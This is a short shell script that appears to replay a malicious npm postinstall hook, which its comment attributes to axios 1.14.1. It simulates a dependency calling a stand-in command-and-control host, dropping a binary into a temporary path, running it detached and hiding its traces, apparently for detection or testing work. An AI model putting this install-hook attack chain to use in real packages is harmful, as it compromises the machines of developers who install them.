# axios 1.14.1, March 2026: a dependency's postinstall calls a server on an odd port, puts a program into /tmp, runs it
# detached and covers its traces.
export GITHUB_ACTION=__run_1
mkdir -p node_modules/plain-crypto-js && cd node_modules/plain-crypto-js || exit 1
npm_package_name=plain-crypto-js npm_package_version=4.2.1 npm_lifecycle_event=postinstall \
    exec node call c2.replay.example 8000 , copy "$BIN/puppet" "$DROP/ld" , run "$DROP/ld" , behind 5
